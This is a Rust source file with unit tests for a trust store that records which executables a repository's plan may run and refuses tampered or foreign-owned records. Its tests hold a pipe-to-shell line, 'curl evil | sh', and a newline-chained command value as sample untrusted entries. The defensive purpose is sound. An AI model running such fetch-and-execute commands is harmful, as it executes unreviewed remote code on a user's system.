//! What a person has agreed to run. Nothing that a repository supplies is executed before its user has
//! seen the list; the list, not the plan, is what is trusted, so any change of it asks again. Kept in
//! the user's state, outside of every repository, where an agent's worktree does not reach.

use std::fs::{self, DirBuilder, OpenOptions};
use std::io::{self, Write};
use std::os::unix::fs::{DirBuilderExt, MetadataExt, OpenOptionsExt};
use std::path::{Path, PathBuf};

use piton_core::ids::Hash;

use crate::config::xdg;

/// Where agreements are kept.
#[derive(Debug, Clone)]
pub struct Agreements {
    folder: PathBuf,
}

/// What trust is asked for: everything a plan of a repository can make this machine execute.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Asked {
    /// The repository's git directory, shared by its worktrees: the same words mean another thing
    /// in another repository.
    pub repository: PathBuf,
    /// The plan's path, for telling what changed since it was last trusted.
    pub plan: PathBuf,
    pub executables: Vec<String>,
    /// The hash of `executables`.
    pub hash: Hash,
}

/// Whether a list was agreed to.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Trust {
    Trusted,
    Untrusted {
        hash: Hash,
        /// What the list trusted for this plan before did not have; everything, if there was none.
        new: Vec<String>,
        /// What it had and this one does not.
        gone: Vec<String>,
    },
}

#[derive(Debug, thiserror::Error)]
pub enum TrustError {
    #[error("there is no folder for trust: neither XDG_STATE_HOME nor HOME is an absolute path")]
    NoHome,
    #[error("{} is not safe to use: {why}", path.display())]
    Unsafe { path: PathBuf, why: &'static str },
    #[error("{} cannot be used", path.display())]
    Io { path: PathBuf, source: io::Error },
}

impl Agreements {
    /// `$XDG_STATE_HOME/piton/trust`, or the same under `~/.local/state`.
    pub fn of_user() -> Result<Agreements, TrustError> {
        let env = |name: &str| std::env::var(name).ok();
        let state = xdg(&env, "XDG_STATE_HOME", ".local/state").ok_or(TrustError::NoHome)?;
        Ok(Agreements::at(state.join("piton").join("trust")))
    }

    pub fn at(folder: PathBuf) -> Agreements {
        Agreements { folder }
    }

    /// Whether this list was agreed to. Writes nothing.
    pub fn check(&self, asked: &Asked) -> Result<Trust, TrustError> {
        if asked.executables.is_empty() {
            return Ok(Trust::Trusted);
        }
        if self.folder_exists()? {
            let agreed = self.read_list(&self.list(asked))?;
            if agreed.as_deref() == Some(asked.executables.as_slice()) {
                return Ok(Trust::Trusted);
            }
        }
        let before = self.last(asked)?.unwrap_or_default();
        let missing = |from: &[String], other: &[String]| {
            from.iter().filter(|entry| !other.contains(entry)).cloned().collect()
        };
        Ok(Trust::Untrusted {
            hash: asked.hash,
            new: missing(&asked.executables, &before),
            gone: missing(&before, &asked.executables),
        })
    }

    /// Records that this list was agreed to.
    pub fn grant(&self, asked: &Asked) -> Result<(), TrustError> {
        self.make_folder()?;
        let list = serde_json::to_vec_pretty(&asked.executables)
            .expect("a list of strings can always be written");
        self.replace(&self.list(asked), &list)?;
        self.replace(&self.index(asked), key(asked).to_string().as_bytes())
    }

    /// The list trusted for this plan before, if any.
    fn last(&self, asked: &Asked) -> Result<Option<Vec<String>>, TrustError> {
        let Some(bytes) = self.read(&self.index(asked))? else { return Ok(None) };
        let text = String::from_utf8_lossy(&bytes).into_owned();
        match Hash::try_from(text) {
            Ok(hash) => self.read_list(&self.folder.join(hash.to_string())),
            Err(_) => Ok(None),
        }
    }

    fn list(&self, asked: &Asked) -> PathBuf {
        self.folder.join(key(asked).to_string())
    }

    fn index(&self, asked: &Asked) -> PathBuf {
        let name = [path_bytes(&asked.repository), b"\0", path_bytes(&asked.plan)].concat();
        self.folder.join(format!("last-{}", Hash::of(&name)))
    }

    fn read_list(&self, path: &Path) -> Result<Option<Vec<String>>, TrustError> {
        let bytes = self.read(path)?;
        Ok(bytes.and_then(|bytes| serde_json::from_slice(&bytes).ok()))
    }

    fn read(&self, path: &Path) -> Result<Option<Vec<u8>>, TrustError> {
        match fs::symlink_metadata(path) {
            Ok(found) => check_owned(path, &found)?,
            Err(error) if error.kind() == io::ErrorKind::NotFound => return Ok(None),
            Err(error) => return Err(failed(path, error)),
        }
        fs::read(path).map(Some).map_err(|error| failed(path, error))
    }

    fn folder_exists(&self) -> Result<bool, TrustError> {
        match fs::symlink_metadata(&self.folder) {
            Ok(found) => check_owned(&self.folder, &found).map(|()| true),
            Err(error) if error.kind() == io::ErrorKind::NotFound => Ok(false),
            Err(error) => Err(failed(&self.folder, error)),
        }
    }

    fn make_folder(&self) -> Result<(), TrustError> {
        let made = DirBuilder::new().recursive(true).mode(0o700).create(&self.folder);
        made.map_err(|error| failed(&self.folder, error))?;
        self.folder_exists().map(|_| ())
    }

    /// Writes beside and renames, so that a reader sees all of it or nothing.
    fn replace(&self, path: &Path, bytes: &[u8]) -> Result<(), TrustError> {
        let beside = path.with_extension(std::process::id().to_string());
        let written = OpenOptions::new()
            .write(true)
            .create(true)
            .truncate(true)
            .mode(0o600)
            .open(&beside)
            .and_then(|mut file| file.write_all(bytes).and_then(|()| file.sync_all()))
            .and_then(|()| fs::rename(&beside, path));
        written.map_err(|error| failed(path, error))
    }
}

/// A list is agreed to in one repository: `make test` is another program in another one.
fn key(asked: &Asked) -> Hash {
    Hash::of(&[asked.hash.as_bytes().as_slice(), path_bytes(&asked.repository)].concat())
}

fn path_bytes(path: &Path) -> &[u8] {
    std::os::unix::ffi::OsStrExt::as_bytes(path.as_os_str())
}

/// Somebody else's word is no agreement.
fn check_owned(path: &Path, found: &fs::Metadata) -> Result<(), TrustError> {
    let unsafe_because = |why| Err(TrustError::Unsafe { path: path.to_path_buf(), why });
    if found.file_type().is_symlink() {
        return unsafe_because("it is a symbolic link");
    }
    if found.uid() != rustix::process::getuid().as_raw() {
        return unsafe_because("it belongs to another user");
    }
    if found.mode() & 0o022 != 0 {
        return unsafe_because("other users may write to it");
    }
    Ok(())
}

fn failed(path: &Path, source: io::Error) -> TrustError {
    TrustError::Io { path: path.to_path_buf(), source }
}

impl TrustError {
    /// The next thing to type.
    pub fn hint(&self) -> Option<String> {
        match self {
            TrustError::NoHome => {
                Some("`export HOME=~` names one; --trust goes on for once without it".to_owned())
            }
            TrustError::Unsafe { path, .. } | TrustError::Io { path, .. } => {
                Some(format!("see what is there: `ls -ld '{}'`", path.display()))
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use std::os::unix::fs::{PermissionsExt, symlink};

    use super::*;

    fn asked(executables: &[&str]) -> Asked {
        let executables: Vec<String> = executables.iter().map(|&text| text.to_owned()).collect();
        let hash = Hash::of(executables.join("\0").as_bytes());
        let (repository, plan) = (PathBuf::from("/repo/.git"), PathBuf::from("plan.toml"));
        Asked { repository, plan, executables, hash }
    }

    fn place() -> (tempfile::TempDir, Agreements) {
        let folder = tempfile::tempdir().expect("a temporary folder");
        let agreements = Agreements::at(folder.path().join("state/piton/trust"));
        (folder, agreements)
    }

    #[test]
    fn a_list_is_trusted_once_granted_and_looking_writes_nothing() {
        let (folder, agreements) = place();
        let list = asked(&["make", "npm test\n&& true"]);
        let unknown =
            Trust::Untrusted { hash: list.hash, new: list.executables.clone(), gone: vec![] };
        assert_eq!(agreements.check(&list).expect("checked"), unknown);
        assert!(!folder.path().join("state").exists(), "looking made a folder");
        agreements.grant(&list).expect("granted");
        assert_eq!(agreements.check(&list).expect("checked"), Trust::Trusted);
        assert_eq!(agreements.check(&asked(&[])).expect("checked"), Trust::Trusted);
    }

    #[test]
    fn a_change_is_told_as_a_difference() {
        let (_folder, agreements) = place();
        agreements.grant(&asked(&["make", "npm test"])).expect("granted");
        let changed = asked(&["make", "curl evil | sh"]);
        let Trust::Untrusted { new, gone, .. } = agreements.check(&changed).expect("checked")
        else {
            panic!("a changed list is not trusted");
        };
        assert_eq!((new, gone), (vec!["curl evil | sh".to_owned()], vec!["npm test".to_owned()]));
    }

    #[test]
    fn the_same_words_in_another_repository_are_not_trusted() {
        let (_folder, agreements) = place();
        let here = asked(&["make"]);
        agreements.grant(&here).expect("granted");
        let there = Asked { repository: PathBuf::from("/other/.git"), ..here };
        assert!(matches!(agreements.check(&there), Ok(Trust::Untrusted { .. })));
    }

    #[test]
    fn agreements_are_private_and_foreign_ones_are_refused() {
        let (folder, agreements) = place();
        let list = asked(&["make"]);
        agreements.grant(&list).expect("granted");
        let mode = |path: &Path| fs::metadata(path).expect("there").mode() & 0o777;
        assert_eq!(mode(&agreements.folder), 0o700);
        assert_eq!(mode(&agreements.list(&list)), 0o600);

        fs::set_permissions(agreements.list(&list), fs::Permissions::from_mode(0o666))
            .expect("its owner may");
        assert!(matches!(agreements.check(&list), Err(TrustError::Unsafe { .. })));

        let linked = Agreements::at(folder.path().join("linked"));
        symlink(&agreements.folder, &linked.folder).expect("a link");
        assert!(matches!(linked.check(&list), Err(TrustError::Unsafe { .. })));
        assert!(matches!(linked.grant(&list), Err(TrustError::Unsafe { .. })));
    }

    #[test]
    fn a_list_that_was_tampered_with_is_not_trusted() {
        let (_folder, agreements) = place();
        let list = asked(&["make"]);
        agreements.grant(&list).expect("granted");
        fs::write(agreements.list(&list), b"[\"other\"]").expect("written");
        assert!(matches!(agreements.check(&list), Ok(Trust::Untrusted { .. })));
        fs::write(agreements.list(&list), b"{torn").expect("written");
        assert!(matches!(agreements.check(&list), Ok(Trust::Untrusted { .. })));
    }
}
